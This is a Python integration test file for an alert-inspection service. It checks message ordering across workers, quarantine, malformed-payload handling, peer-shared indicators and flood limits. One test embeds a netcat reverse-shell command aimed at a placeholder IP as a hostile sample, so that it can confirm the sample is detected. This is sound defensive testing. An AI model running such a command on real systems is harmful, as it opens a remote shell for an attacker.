"""The inspection pipeline wired into real Sentinel workers (issue 14).

One bench for the module: site a with its backend (security events become alerts through
its REST API) and the Sentinel with **two** workers, so per-client order is checked across
partitions owned by different processes. Alerts are published through the origin
Mosquitto as the alert publisher, exactly as in production.
"""

from __future__ import annotations

import asyncio
import json
import ssl
import uuid
from collections.abc import AsyncIterator, Iterator
from typing import Any

import aiomqtt
import httpx
import pytest
import redis.asyncio as aioredis

from backend.federation.tables import SharedIocRow
from backend.sentinel.authdb import AuthDb
from backend.sentinel.naming import COUNTERS_KEY, EVENTS_STREAM
from backend.sentinel.quarantine import list_quarantined
from backend.store.db import Store, utcnow
from bench.benchfile import SentinelInfo
from bench.services.sentinel_client import mqtt_client, nats_connect
from bench.services.sentinel_config import WORKER_USER
from bench.site import RunningBench

pytestmark = [pytest.mark.integration, pytest.mark.timeout(300)]

PASSWORD = "pipeline-pw"


@pytest.fixture(scope="module")
def bench(bench_factory: Any) -> Iterator[RunningBench]:
    running: RunningBench = bench_factory(["a"], sentinel=True, sentinel_workers=2)
    yield running


@pytest.fixture(scope="module")
def info(bench: RunningBench) -> SentinelInfo:
    sentinel = bench.info.sentinel
    assert sentinel is not None
    return sentinel


@pytest.fixture
async def publisher(bench: RunningBench, info: SentinelInfo) -> AsyncIterator[aiomqtt.Client]:
    context = ssl.create_default_context(cafile=bench.info.ca)
    context.load_cert_chain(info.origin.publisher_cert, info.origin.publisher_key)
    async with aiomqtt.Client(
        info.origin.mqtt.host,
        info.origin.mqtt.port,
        tls_context=context,
        protocol=aiomqtt.ProtocolVersion.V5,
        identifier=_unique("publisher"),
    ) as client:
        yield client


@pytest.fixture
async def redis(bench: RunningBench) -> AsyncIterator[aioredis.Redis]:
    client = aioredis.from_url(bench.site("a").redis, decode_responses=True)
    yield client
    await client.aclose()


def _unique(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:8]}"


async def _add(bench: RunningBench, *client_ids: str) -> None:
    db = AuthDb.open(bench.site("a").database)
    try:
        await db.start()
        for client_id in client_ids:
            await db.add(client_id, PASSWORD, "us-east")
    finally:
        await db.aclose()


async def _receive(
    info: SentinelInfo, ca: str, client_id: str, started: asyncio.Event, out: list[bytes]
) -> None:
    node = info.nodes[0]
    async with mqtt_client(node.mqtt.host, node.mqtt.port, ca, client_id, PASSWORD) as client:
        await client.subscribe(f"clients/{client_id}/alerts", qos=1)
        started.set()
        async for message in client.messages:
            out.append(bytes(message.payload))  # type: ignore[arg-type]


async def _events(redis: aioredis.Redis, client_id: str, rule: str) -> list[dict[str, Any]]:
    """The security events of ``rule`` for ``client_id`` once there is one (polls)."""
    async with asyncio.timeout(30):
        while True:
            found = [
                data
                for _id, fields in await redis.xrange(EVENTS_STREAM)
                if (data := json.loads(fields["data"]))["client_id"] == client_id
                and data["rule"] == rule
            ]
            if found:
                return found
            await asyncio.sleep(0.2)


async def test_per_client_order_holds_across_two_workers(
    bench: RunningBench, info: SentinelInfo, publisher: aiomqtt.Client
) -> None:
    clients = [_unique("order") for _ in range(8)]
    await _add(bench, *clients)
    received: dict[str, list[bytes]] = {c: [] for c in clients}
    started = {c: asyncio.Event() for c in clients}
    per_client = 40
    async with asyncio.TaskGroup() as tasks:
        readers = [
            tasks.create_task(_receive(info, bench.info.ca, c, started[c], received[c]))
            for c in clients
        ]
        for event in started.values():
            await asyncio.wait_for(event.wait(), 20)
        for n in range(per_client):
            for client_id in clients:
                body = json.dumps({"client": client_id, "n": n}).encode()
                await publisher.publish(f"clients/{client_id}/alerts", body, qos=1)
        async with asyncio.timeout(60):
            while any(len(r) < per_client for r in received.values()):
                await asyncio.sleep(0.1)
        for reader in readers:
            reader.cancel()
    for client_id, messages in received.items():
        bodies = [json.loads(m) for m in messages]
        assert [b["n"] for b in bodies] == list(range(per_client)), client_id
        assert {b["client"] for b in bodies} == {client_id}
    # Both workers took part (the partitions spread eight clients over both processes).
    cluster = bench.sentinel
    assert cluster is not None
    async with httpx.AsyncClient() as http:
        judged = []
        for port in cluster.worker_metrics_ports:
            text = (await http.get(f"http://127.0.0.1:{port}/metrics")).text
            line = next(x for x in text.splitlines() if x.startswith("sentinel_inspected_total"))
            judged.append(float(line.split()[-1]))
    assert all(count > 0 for count in judged), judged


async def test_a_signature_quarantines_raises_an_event_an_alert_and_counts(
    bench: RunningBench,
    info: SentinelInfo,
    publisher: aiomqtt.Client,
    redis: aioredis.Redis,
) -> None:
    client_id = _unique("victim")
    await _add(bench, client_id)
    before = await redis.hgetall(COUNTERS_KEY)
    received: list[bytes] = []
    started = asyncio.Event()
    async with asyncio.TaskGroup() as tasks:
        reader = tasks.create_task(_receive(info, bench.info.ca, client_id, started, received))
        await asyncio.wait_for(started.wait(), 20)
        bad = json.dumps({"title": "x", "details": {"cmd": "nc -e /bin/sh 10.9.9.9 4444"}})
        await publisher.publish(f"clients/{client_id}/alerts", bad.encode(), qos=1)
        await publisher.publish(f"clients/{client_id}/alerts", b'{"title": "fine"}', qos=1)
        async with asyncio.timeout(20):
            while not received:
                await asyncio.sleep(0.1)
        await asyncio.sleep(1.0)  # the bad one, had it been delivered, came first
        reader.cancel()
    assert received == [b'{"title": "fine"}']
    events = await _events(redis, client_id, "reverse-shell")
    assert events[0]["stage"] == "pattern"
    assert events[0]["severity"] == "critical"
    cluster = bench.sentinel
    assert cluster is not None
    nc = await nats_connect(
        [n.nats for n in info.nodes], bench.info.ca, WORKER_USER, cluster.secrets.worker_password
    )
    try:
        stored = await list_quarantined(nc.jetstream(), client_id=client_id)
    finally:
        await nc.close()
    assert [e.findings[0]["rule"] for e in stored] == ["reverse-shell"]
    assert "nc -e" in stored[0].preview
    after = await redis.hgetall(COUNTERS_KEY)
    assert int(after["quarantined"]) >= int(before.get("quarantined", 0)) + 1
    assert int(after["delivered"]) >= int(before.get("delivered", 0)) + 1
    # Raised through the site's one alert path (REST API), so federation would see it.
    site = bench.info.site("a")
    async with site.api_client() as api, asyncio.timeout(30):
        while True:
            alerts = await api.get("/api/v1/alerts", params={"type": "sentinel.reverse-shell"})
            mine = [a for a in alerts.json()["items"] if a["details"]["client_id"] == client_id]
            if mine:
                break
            await asyncio.sleep(0.3)
    assert mine[0]["severity"] == "critical"
    assert mine[0]["source"] == "api"


async def test_hostile_payloads_do_not_stop_the_worker_or_other_clients(
    bench: RunningBench, info: SentinelInfo, publisher: aiomqtt.Client
) -> None:
    hostile, bystander = _unique("hostile"), _unique("bystander")
    await _add(bench, hostile, bystander)
    received: list[bytes] = []
    started = asyncio.Event()
    payloads = [
        bytes(range(256)) * 4,  # binary
        b"\xff\xfe\xc3\x28 not utf-8 \xed\xa0\x80",
        b"[" * 50_000 + b"]" * 50_000,  # deeply nested, and over the 64 KiB limit
        b'{"a":' * 5_000 + b"1" + b"}" * 5_000,  # deeply nested under the limit
        b"x" * 200_000,  # huge
    ]
    async with asyncio.TaskGroup() as tasks:
        reader = tasks.create_task(_receive(info, bench.info.ca, bystander, started, received))
        await asyncio.wait_for(started.wait(), 20)
        for payload in payloads:
            await publisher.publish(f"clients/{hostile}/alerts", payload, qos=1)
        await publisher.publish(f"clients/{bystander}/alerts", b'{"ok": 1}', qos=1)
        async with asyncio.timeout(20):
            while not received:
                await asyncio.sleep(0.1)
        reader.cancel()
    assert received == [b'{"ok": 1}']
    cluster = bench.sentinel
    assert cluster is not None
    nc = await nats_connect(
        [n.nats for n in info.nodes], bench.info.ca, WORKER_USER, cluster.secrets.worker_password
    )
    try:
        async with asyncio.timeout(20):
            while True:
                stored = await list_quarantined(nc.jetstream(), client_id=hostile)
                if len(stored) >= 2:
                    break
                await asyncio.sleep(0.2)
    finally:
        await nc.close()
    # The two over the size limit are quarantined unread; the rest judged on their merits.
    assert sum(1 for e in stored if e.findings[0]["rule"] == "oversize") == 2
    assert all(worker.running for worker in cluster.workers)


async def test_an_ioc_a_peer_shared_blocks_a_matching_alert_without_restart(
    bench: RunningBench,
    info: SentinelInfo,
    publisher: aiomqtt.Client,
    redis: aioredis.Redis,
) -> None:
    client_id = _unique("ioc")
    await _add(bench, client_id)
    indicator = f"evil-{uuid.uuid4().hex[:6]}.example"
    store = Store(bench.info.site("a").database)
    try:
        async with store.sessionmaker.begin() as session:
            session.add(
                SharedIocRow(
                    dedup_key=uuid.uuid4().hex,
                    origin_site="b",
                    type="domain",
                    value=indicator,
                    context="test",
                    first_seen=utcnow(),
                    last_seen=utcnow(),
                )
            )
    finally:
        await store.aclose()
    body = json.dumps({"title": "dns", "details": {"query": indicator.upper()}}).encode()
    async with asyncio.timeout(30):
        while True:  # the workers poll shared IOCs every 2 s
            await publisher.publish(f"clients/{client_id}/alerts", body, qos=1)
            try:
                events = await asyncio.wait_for(_events(redis, client_id, "shared-ioc"), 1.5)
                break
            except TimeoutError:
                continue
    assert "shared by site b" in events[0]["detail"]


async def test_a_flooding_client_is_cut_and_others_are_not(
    bench: RunningBench, info: SentinelInfo, publisher: aiomqtt.Client, redis: aioredis.Redis
) -> None:
    noisy, quiet = _unique("noisy"), _unique("quiet")
    await _add(bench, noisy, quiet)
    cluster = bench.sentinel
    assert cluster is not None
    received: list[bytes] = []
    started = asyncio.Event()
    # Straight onto the ingress (as the bridge would), far over the 500/s + 1,000 burst.
    nc = await nats_connect(
        [n.nats for n in info.nodes], bench.info.ca, WORKER_USER, cluster.secrets.worker_password
    )
    async with asyncio.TaskGroup() as tasks:
        reader = tasks.create_task(_receive(info, bench.info.ca, quiet, started, received))
        await asyncio.wait_for(started.wait(), 20)
        try:
            for n in range(5_000):
                await nc.publish(f"sentinel.ingress.clients.{noisy}.alerts", b'{"n": %d}' % n)
            await nc.flush()
        finally:
            await nc.close()
        await publisher.publish(f"clients/{quiet}/alerts", b'{"quiet": 1}', qos=1)
        async with asyncio.timeout(30):
            while not received:
                await asyncio.sleep(0.1)
        reader.cancel()
    assert received == [b'{"quiet": 1}']
    events = await _events(redis, noisy, "client-flood")
    assert events[0]["stage"] == "anomaly"
    async with httpx.AsyncClient() as http:
        dropped = 0.0
        for port in cluster.worker_metrics_ports:
            text = (await http.get(f"http://127.0.0.1:{port}/metrics")).text
            dropped += sum(
                float(line.split()[-1])
                for line in text.splitlines()
                if line.startswith('sentinel_dropped_total{reason="client_flood"}')
            )
    assert dropped >= 1_000  # 5,000 in well under the 8 s the budget would need
    assert all(worker.running for worker in cluster.workers)
